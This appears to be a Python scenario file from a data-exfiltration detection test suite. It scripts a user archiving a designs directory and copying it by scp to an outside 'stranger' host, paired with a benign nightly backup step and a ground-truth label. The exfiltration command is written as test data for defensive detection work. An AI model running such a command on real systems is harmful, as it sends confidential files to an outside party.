"""An archive sent away with scp, by the person's own key that the laptop's agent lends."""

from __future__ import annotations

from ..props import DESIGN_BYTES, designs, upload
from ..scenario import BACKUP, STRANGER, Person, Scenario, Step, Truth

SCENARIO = Scenario(
    number=1,
    title="tar, then scp to a server outside",
    people=(Person("dora", ("app",)),),
    prepared=(designs("app"),),
    steps=(Step("dora", f"ssh dora@app 'tar czf s.tgz -C /srv designs && scp -q s.tgz drop@{STRANGER}:'"),),
    twin_title="root's nightly job sends as much to the backup host",
    twin=(
        Step(
            None,
            f"tar czf /srv/nightly.tgz -C /srv designs && {upload('/srv/nightly.tgz', BACKUP)}",
            host="app",
        ),
    ),
    truth=Truth("dora", ("app",), ("upload-new-destination",), DESIGN_BYTES, STRANGER),
)
